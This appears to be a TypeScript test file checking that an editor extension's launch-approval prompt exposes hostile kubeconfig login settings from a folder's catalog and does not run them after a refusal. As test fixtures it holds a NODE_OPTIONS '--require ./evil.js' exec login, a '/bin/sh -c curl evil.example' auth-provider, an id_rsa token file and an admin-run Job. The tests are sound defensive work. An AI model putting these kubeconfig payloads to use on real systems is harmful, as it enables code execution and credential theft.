/**
 * A catalog that comes with a folder names a kubeconfig whose login runs a program, or sends a file to another host.
 */

import assert from "node:assert/strict";
import { access, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import type { Entry, RuntimeConfig } from "../../src/catalog/entry.ts";
import { root, temporaryFolder } from "../support/gateway.ts";
import { approval } from "../unit/vscode/launches.ts";

async function hostile(t: TestContext, user: object, type = "k8s-service") {
  const folder = await temporaryFolder(t);
  const ran = join(folder, "ran");
  const write = (next: object) =>
    writeFile(
      join(folder, "kubeconfig"),
      JSON.stringify({
        apiVersion: "v1",
        kind: "Config",
        "current-context": "c",
        clusters: [{ name: "k", cluster: { server: "https://cluster.evil.example" } }],
        users: [{ name: "u", user: next }],
        contexts: [{ name: "c", context: { cluster: "k", user: "u" } }],
      }),
    );
  await write(user);
  const place = { namespace: "n", kubeconfig: "./kubeconfig" };
  const runtime: RuntimeConfig =
    type === "k8s-job"
      ? { type, image: "evil/image", service_account: "admin", command: ["sh"], ...place }
      : { type: "k8s-service", service_name: "s", port: 80, ...place };
  const entry: Entry = { id: "x", runtime };
  const catalog = { file: join(folder, "catalog.yaml"), folder };
  const isRun = () =>
    access(ran).then(
      () => true,
      () => false,
    );
  return { entry, catalog, folder, ran, write, isRun };
}

const exec = (file: string) => ({
  exec: {
    apiVersion: "client.authentication.k8s.io/v1",
    command: "touch",
    args: [file],
    env: [{ name: "NODE_OPTIONS", value: "--require ./evil.js" }],
  },
});

for (const type of ["k8s-service", "k8s-job"]) {
  test(`the login program of a ${type}'s kubeconfig is shown, and does not run after a refusal`, async (t) => {
    const { entry, catalog, ran, write, isRun } = await hostile(t, {}, type);
    await write(exec(ran));
    const { make, asked } = await approval(t, { askLaunch: async () => "no" });
    await assert.rejects(make().approve(entry, catalog), /not approved/);
    assert.equal(await make().approved(entry, catalog), undefined);
    const facts = asked.launches[0]?.summary.facts ?? [];
    assert.deepEqual(
      facts.filter(({ kind }) => kind === "login" || kind === "contact").map(({ text }) => text),
      [`NODE_OPTIONS='--require ./evil.js' touch ${ran}`, "cluster.evil.example"],
    );
    assert.equal(await isRun(), false);
  });
}

test("a Job is shown with image, command, place and account", async (t) => {
  const { entry, catalog } = await hostile(t, {}, "k8s-job");
  const { make, asked } = await approval(t);
  await make().approve(entry, catalog);
  const { line, facts } = asked.launches[0]?.summary ?? { line: "", facts: [] };
  assert.equal(
    line,
    "kubectl --kubeconfig ./kubeconfig --context c -n n run x --image evil/image --command -- sh",
  );
  assert.ok(facts.some(({ text }) => text === "service_account: admin"));
});

test("a kubeconfig that changes after its approval is asked for again", async (t) => {
  const { entry, catalog, ran, write } = await hostile(t, {});
  const { make, asked } = await approval(t);
  await make().approve(entry, catalog);
  await make().approve(entry, catalog);
  assert.equal(asked.launches.length, 1);
  await write(exec(ran));
  await make().approve(entry, catalog);
  assert.equal(asked.launches.length, 2);
});

test("the shell line of an old login provider is shown", async (t) => {
  const config = { "cmd-path": "/bin/sh", "cmd-args": "-c 'curl evil.example'", "token-key": "{.t}" };
  const { entry, catalog } = await hostile(t, { "auth-provider": { name: "gcp", config } });
  const { make, asked } = await approval(t);
  await make().approve(entry, catalog);
  const texts = asked.launches[0]?.summary.facts.map(({ text }) => text) ?? [];
  assert.ok(texts.includes(`"/bin/sh" -c 'curl evil.example'`));
  assert.ok(texts.includes("auth-provider=gcp"));
});

test("a file that a kubeconfig sends as a token is named", async (t) => {
  const { entry, catalog, folder, write } = await hostile(t, {});
  const secret = join(folder, "id_rsa");
  await writeFile(secret, "private");
  await write({ "token-file": secret });
  const { make, asked } = await approval(t);
  await make().approve(entry, catalog);
  const files = asked.launches[0]?.summary.facts.filter(({ kind }) => kind === "credential");
  assert.deepEqual(files, [{ kind: "credential", text: secret }]);
});

test("the program of the user's own kubeconfig is asked for again when it changes", async (t) => {
  const { entry, catalog, folder, ran, write } = await hostile(t, {});
  const before = process.env["KUBECONFIG"];
  process.env["KUBECONFIG"] = join(folder, "kubeconfig");
  t.after(() => {
    if (before === undefined) delete process.env["KUBECONFIG"];
    else process.env["KUBECONFIG"] = before;
  });
  const { kubeconfig: _, ...runtime } = entry.runtime as Extract<Entry["runtime"], { type: "k8s-service" }>;
  const { make, asked } = await approval(t);
  await make().approve({ id: "x", runtime }, catalog);
  await write(exec(ran));
  await make().approve({ id: "x", runtime }, catalog);
  assert.equal(asked.launches.length, 2);
  assert.ok(asked.launches[1]?.summary.facts.some(({ kind }) => kind === "login"));
});

test("the settings of a folder cannot name a kubeconfig for the Platform view", async () => {
  const manifest = JSON.parse(await readFile(join(root, "package.json"), "utf8"));
  const settings = manifest.contributes.configuration.properties;
  assert.equal(settings["openMcpGateway.platform.kubeconfig"].scope, "machine");
});
